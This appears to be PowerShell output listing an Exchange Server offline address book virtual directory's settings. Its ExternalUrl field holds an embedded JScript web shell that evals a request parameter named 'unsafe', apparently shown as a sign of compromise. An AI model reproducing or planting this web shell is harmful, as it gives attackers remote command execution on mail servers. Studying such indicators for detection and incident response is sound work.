Name                            : OAB (Default Web Site)
PollInterval                    : 480
OfflineAddressBooks             : {}
RequireSSL                      : True
BasicAuthentication             : False
WindowsAuthentication           : True
OAuthAuthentication             : True
MetabasePath                    : IIS://EXCH1.corp.example/W3SVC/1/ROOT/OAB
Path                            : C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\OAB
ExtendedProtectionTokenChecking : None
ExtendedProtectionFlags         : {}
ExtendedProtectionSPNList       : {}
InternalAuthenticationMethods   : {WindowsIntegrated, OAuth}
InternalUrl                     : https://exch1.corp.example/OAB
ExternalUrl                     : http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["unsafe"],"unsafe");}</script>
ExternalAuthenticationMethods   : {WindowsIntegrated, OAuth}
